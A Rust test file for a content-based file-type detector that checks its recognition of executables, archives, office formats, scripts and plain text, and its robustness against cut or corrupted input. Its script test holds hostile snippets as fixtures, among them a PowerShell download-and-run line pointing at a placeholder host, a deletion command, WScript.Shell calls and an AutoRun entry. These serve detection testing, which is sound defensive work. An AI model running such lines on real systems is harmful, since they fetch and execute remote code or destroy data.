mod polyglots;
mod samples;
mod scripts;

use std::{collections::BTreeSet, fs, path::Path, process::Command};

use super::{Sample, kinds, script, table_ids};
use crate::facts::{Class, KINDS, Kind};
use samples::{dos, ole, put, samples, zip};

fn ids(bytes: &[u8], names: &[&str]) -> Vec<&'static str> {
    kinds(&Sample::of(bytes, names))
        .into_iter()
        .map(|kind| kind.id)
        .collect()
}

#[test]
fn each_kind_is_found_by_its_content() {
    let mut found = BTreeSet::new();
    for (expected, bytes, names) in samples() {
        assert_eq!(
            ids(&bytes, names),
            expected,
            "{:02x?} {names:?}",
            &bytes[..bytes.len().min(24)]
        );
        found.extend(expected.iter().copied());
    }
    // No kind without a sample, but those whose sign is infer's own matter.
    let inferred = ["heif", "avif", "jxl", "jp2"];
    for kind in KINDS {
        assert!(
            found.contains(kind.id) || inferred.contains(&kind.id),
            "{} has no sample",
            kind.id
        );
    }
}

#[test]
fn every_id_of_the_tables_is_a_kind_and_stands_once() {
    for id in table_ids().chain(script::table_ids()) {
        assert!(Kind::by_id(id).is_some(), "{id}");
    }
    let all: BTreeSet<_> = KINDS.iter().map(|kind| kind.id).collect();
    assert_eq!(all.len(), KINDS.len());
    assert!(!script::table_ids().any(|id| Kind::by_id(id).unwrap().class != Class::Script));
}

#[test]
fn text_that_begins_like_a_program_is_text() {
    for text in [
        "MZ001234;Nguyễn Văn A;Gia Nghĩa\r\n".repeat(40),
        "MZ".to_owned(),
        "BCTC quý III".to_owned(),
        "ITSF là gì? Liên đoàn bi lắc".to_owned(),
        "070701 là ngày 7 tháng 7".to_owned(),
        "dex\n035 là phiên bản".to_owned(),
        "xar! Rar! LZIP".to_owned(),
        "FWS báo cáo".to_owned(),
        "Tệp PDF bắt đầu bằng %PDF-1.4".to_owned(),
        "- -lh5- là cách nén".to_owned(),
        "**ACE** conectix koly".to_owned(),
        "PK là hai chữ đầu của ZIP".to_owned(),
        "L là chữ thứ 14".to_owned(),
        "Subject: là tiêu đề thư\r\nKhông phải thư".to_owned(),
        "begin 2026 với kế hoạch".to_owned(),
        "From now on: ok".to_owned(),
        "; ghi chú\r\n[version] 1".to_owned(),
    ] {
        assert_eq!(ids(text.as_bytes(), &["ghi-chu"]), ["text"], "{text:?}");
    }
    // A drawing or a table of bytes that begins with the two letters, whose header makes no sense.
    let drawing = put(b"MZ\xff\xff\0\0\0\0\0\0".to_vec(), 2000, &[1]);
    assert_eq!(ids(&drawing, &["ban-ve.dat"]), Vec::<&str>::new());
}

#[test]
fn source_text_in_a_letter_is_no_script() {
    let quoted = [
        "#!/bin/sh\nrm -rf /tmp/x\n",
        "@echo off\r\nstart setup.exe\r\n",
        "Set a = CreateObject(\"WScript.Shell\")\r\nOn Error Resume Next\r\n",
        "var s = new ActiveXObject('WScript.Shell'); eval(s);",
        "IEX(New-Object Net.WebClient).DownloadString('http://x/a')",
        "Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\a]",
        "[AutoRun]\r\nopen=a.exe\r\n",
        "#@~^XAAAAA==",
    ];
    for text in quoted {
        let body = Sample {
            body: true,
            ..Sample::of(text.as_bytes(), &[])
        };
        let found: Vec<_> = kinds(&body).iter().map(|kind| kind.id).collect();
        assert_eq!(found, ["text"], "as the text of a letter: {text}");
        // Unix runs a file by its first line, whatever its name.
        if text.starts_with("#!") {
            assert_eq!(ids(text.as_bytes(), &["ghi-chu.txt"]), ["script-sh"]);
            continue;
        }
        assert_eq!(
            ids(text.as_bytes(), &["ghi-chu.txt"]),
            ["text"],
            "as notes: {text}"
        );
        assert_eq!(
            ids(text.as_bytes(), &["va-loi.patch"]),
            ["text"],
            "as a patch: {text}"
        );
        let bare = kinds(&Sample::of(text.as_bytes(), &[]));
        assert_eq!(
            bare[0].class,
            Class::Script,
            "as a file without a name: {text}"
        );
        let disguised = kinds(&Sample::of(text.as_bytes(), &["bao-cao.pdf"]));
        assert_eq!(disguised[0].class, Class::Script, "as a.pdf: {text}");
    }
    // Words of a language without weight are text even in a file.
    for text in [
        "Hướng dẫn: mở cmd, gõ powershell.exe rồi Enter. Nếu lỗi, xem %TEMP%.",
        "Hàm eval( trong JavaScript nguy hiểm.",
        "var x = 1; function(y) { return y }",
        "Người dùng gọi CreateObject( để tạo đối tượng.",
        "# Tiêu đề\n\nDim ánh sáng",
        "#!hashtag của tỉnh",
        "if not exist thì tạo mới",
    ] {
        assert_eq!(ids(text.as_bytes(), &["huong-dan"]), ["text"], "{text}");
    }
    // A page with a script is a page.
    let page = "<html><script>var a = new ActiveXObject('x'); eval(a)</script></html>";
    assert_eq!(ids(page.as_bytes(), &["a.html"]), ["html"]);
    // An HTA is run by its content only as a file; in a letter its tag is a tag.
    let hta = b"<html><hta:application></html>";
    let body = Sample {
        body: true,
        ..Sample::of(hta, &[])
    };
    assert_eq!(kinds(&body)[0].id, "html");
}

#[test]
fn what_lies_outside_the_head_is_read_where_a_reader_is_given() {
    let far = put(
        put(dos(b"x"), 0x3c, &9000u32.to_le_bytes()),
        9000,
        b"PE\0\0",
    );
    let far = put(far, 20_000, &[0]);
    let iso = put(put(vec![1; 40_000], 32_769, b"CD001"), 60_000, &[0]);
    let fixed = put(put(vec![1; 60_000], 59_488, b"conectix"), 59_999, &[1]);
    let compound = {
        let file = put(ole(&[0; 16], "x"), 48, &[60, 0, 0, 0]);
        let directory = ole(b"\x84\x10\x0c\0\0\0\0\0\xc0\0\0\0\0\0\0\x46", "x")[1024..].to_vec();
        put(put(file, 61 * 512, &directory), 40_000, &[0])
    };
    let documents = {
        let mut members = vec![
            ("[Content_Types].xml", &b"x"[..], 8),
            ("word/document.xml", b"x", 8),
        ];
        let long = vec![b'x'; 9000];
        members.insert(1, ("docProps/thumbnail.jpeg", &long, 0));
        zip(&members)
    };
    for (bytes, expected, without) in [
        (far, "pe", Some("dos-mz")),
        (iso, "iso", None),
        (fixed, "vhd", Some("vhd")),
        (compound, "msi", Some("ole")),
        (documents, "docx", Some("docx")),
    ] {
        let read = |at: u64, len: usize| {
            bytes
                .get(at as usize..at as usize + len)
                .map(<[u8]>::to_vec)
        };
        let cut = Sample {
            head: &bytes[..4096],
            tail: &bytes[bytes.len() - 1024..],
            ..Sample::of(&bytes, &[])
        };
        assert_eq!(kinds(&cut).first().map(|kind| kind.id), without);
        let with_reader = kinds(&Sample {
            reader: Some(&read),
            ..cut
        });
        assert_eq!(with_reader.first().map(|kind| kind.id), Some(expected));
    }
}

#[test]
fn no_length_of_head_and_no_byte_makes_it_fail() {
    let mut state = 7u32;
    let mut next = move || {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (state >> 8) as usize
    };
    for (expected, bytes, names) in samples() {
        for length in 0..bytes.len().min(65) {
            let cut = &bytes[..length];
            let found = ids(cut, names);
            assert!(length > 0 || found.is_empty());
            // The size may tell of more than the head shows, and lie.
            for size in [0, 1, length as u64, bytes.len() as u64, u64::MAX] {
                kinds(&Sample {
                    size,
                    ..Sample::of(cut, names)
                });
                kinds(&Sample {
                    size,
                    head: cut,
                    tail: &bytes,
                    ..Sample::of(&bytes, names)
                });
            }
        }
        for _ in 0..60 {
            let mut broken = bytes.clone();
            for _ in 0..1 + next() % 6 {
                let length = broken.len();
                if length == 0 {
                    break;
                }
                match next() % 4 {
                    0 => broken[next() % length] ^= 1 << (next() % 8),
                    1 => broken[next() % length.min(64)] = [0, 0xff, 0x7f, 0x80][next() % 4],
                    2 => broken.truncate(next() % length + 1),
                    _ => {
                        let at = next() % length;
                        broken.splice(at..at, [0xff; 4]);
                    }
                }
            }
            let found = kinds(&Sample::of(&broken, names));
            assert!(found.len() <= 8, "{expected:?} became {found:?}");
        }
    }
}

#[test]
fn real_programs_are_found() {
    let own = fs::read(std::env::current_exe().expect("a path")).expect("this test");
    assert_eq!(ids(&own, &["bao-cao.pdf"]), ["elf"]);
    assert_eq!(ids(&fs::read("/bin/sh").expect("a shell"), &[]), ["elf"]);
    // PyPI's launchers are the Windows programs that most machines have.
    let list = Command::new("find")
        .args(["/usr/lib/python3", "/usr/share", "/root/.pyenv/versions"])
        .args(["-name", "t64.exe", "-print", "-quit"])
        .output()
        .expect("find");
    let path = String::from_utf8_lossy(&list.stdout).trim().to_owned();
    if let Some(path) = path.lines().next() {
        assert_eq!(
            ids(&fs::read(path).expect("a launcher"), &["a.pdf"]),
            ["pe"]
        );
    }
}

/// The samples beside the checkout (`../shared/corpus-seed`), where they are.
#[test]
fn samples_of_others_are_known_by_their_content() {
    let own = Path::new(env!("CARGO_MANIFEST_DIR"));
    let folders = own
        .ancestors()
        .map(|folder| folder.join("shared/corpus-seed/filetypes"));
    let Some(folder) = { folders }.find(|folder| folder.is_dir()) else {
        return;
    };
    let (mut seen, mut missed) = (0, Vec::new());
    for group in fs::read_dir(folder)
        .expect("a folder")
        .map(|entry| entry.expect("entry").path())
    {
        let manifest = fs::read_to_string(group.join("MANIFEST.tsv")).expect("a manifest");
        for line in manifest.lines().skip(1) {
            let fields: Vec<&str> = line.split('\t').collect();
            let (file, what, facts) = (fields[0], fields[3], fields[4]);
            let Some(expected) = expected(file, what, facts) else {
                continue;
            };
            let bytes = fs::read(group.join(file)).expect("a sample");
            // As the spool gives it: first 4 KiB, last 1 KiB, the rest on demand; and without a name.
            let read = |at: u64, len: usize| {
                bytes
                    .get(at as usize..at as usize + len)
                    .map(<[u8]>::to_vec)
            };
            let sample = Sample {
                head: &bytes[..bytes.len().min(4096)],
                tail: &bytes[bytes.len().saturating_sub(1024)..],
                reader: Some(&read),
                ..Sample::of(&bytes, &[])
            };
            let found: Vec<_> = kinds(&sample).iter().map(|kind| kind.id).collect();
            seen += 1;
            if found != expected {
                missed.push(format!(
                    "{file}: {found:?}, not {expected:?} ({what}; {facts})"
                ));
            }
        }
    }
    assert!(seen >= 140, "only {seen} samples");
    assert!(
        missed.is_empty(),
        "{} of {seen} missed:\n{}",
        missed.len(),
        missed.join("\n")
    );
}

/// What a line of a manifest says that the sample is.
fn expected(file: &str, what: &str, facts: &str) -> Option<&'static [&'static str]> {
    let by_file: &[(&str, &[&str])] = &[
        ("clam.exe.html", &["html"]),
        ("clam.exe.mbox.base64", &["mbox"]),
        ("clam.mail", &["eml"]),
        ("clam.newc.cpio", &["cpio"]),
        ("clam.tnef", &["tnef"]),
        ("fixture.lzh", &["lha"]),
        ("fixture.wasm", &["wasm"]),
        ("test_read_format_lha_lh6.lzh", &["lha"]),
        ("mini.xar", &["xar"]),
        ("excel4_sample_macro.slk", &["text"]),
        ("test-documents.dmg", &["hfs"]),
        ("testLZMA_oom", &["lzma"]),
        // Random bytes with a ZIP at the end; zeros with a RAR behind them.
        ("test_read_format_zip_sfx", &["zip"]),
        ("rar5-crc.sfx", &["rar"]),
        ("fixture.msi.cfb", &["msi"]),
        ("testAPK.apk", &["apk"]),
        ("testJAR_with_PEHDR.jar", &["jar"]),
        ("xlmmacro.xlsm", &["xlsx"]),
        ("excel4_sample_macro.xlsb", &["xlsb"]),
        ("embedded-simple-2007.xls", &["xls"]),
    ];
    if let Some((_, kinds)) = by_file.iter().find(|(name, _)| *name == file) {
        return Some(kinds);
    }
    let extension = file.rsplit('.').next().unwrap_or_default();
    Some(match facts {
        _ if facts.starts_with("7z archive") => &["7z"],
        _ if facts.starts_with("ARJ") => &["arj"],
        _ if facts.starts_with("ACE") => &["ace"],
        _ if facts.starts_with("CAB") => &["cab"],
        _ if facts.starts_with("CHM") => &["chm"],
        _ if facts.starts_with("RAR") => &["rar"],
        _ if facts.starts_with("PDF") => &["pdf"],
        _ if facts.starts_with("RTF") => &["rtf"],
        _ if facts.starts_with("bzip2") => &["bz2"],
        _ if facts.starts_with("gzip") => &["gz"],
        _ if facts.starts_with("zstd") => &["zst"],
        _ if facts.starts_with("VHD") => &["vhd"],
        _ if facts.starts_with("ISO") => &["iso"],
        _ if facts.starts_with("OneNote") => &["onenote"],
        _ if facts.starts_with("Java class") => &["java-class"],
        _ if facts.starts_with("Windows shortcut") => &["lnk"],
        _ if facts.contains("encrypted OOXML") => &["ole-encrypted"],
        _ if facts.starts_with("OLE2") => match extension {
            "doc" => &["doc"],
            "xls" => &["xls"],
            "ppt" => &["ppt"],
            "msg" => &["msg"],
            _ => return None,
        },
        _ if facts.starts_with("zip") => match (extension, what) {
            ("docx", _) => &["docx"],
            ("docm", _) if facts.contains("vbaProject") => &["docm"],
            ("docm", _) => &["docx"],
            ("xlsm", _) => &["xlsm"],
            ("pptx", _) => &["pptx"],
            ("pptm", _) => &["pptm"],
            ("odt", _) => &["odf"],
            _ => &["zip"],
        },
        _ => return None,
    })
}
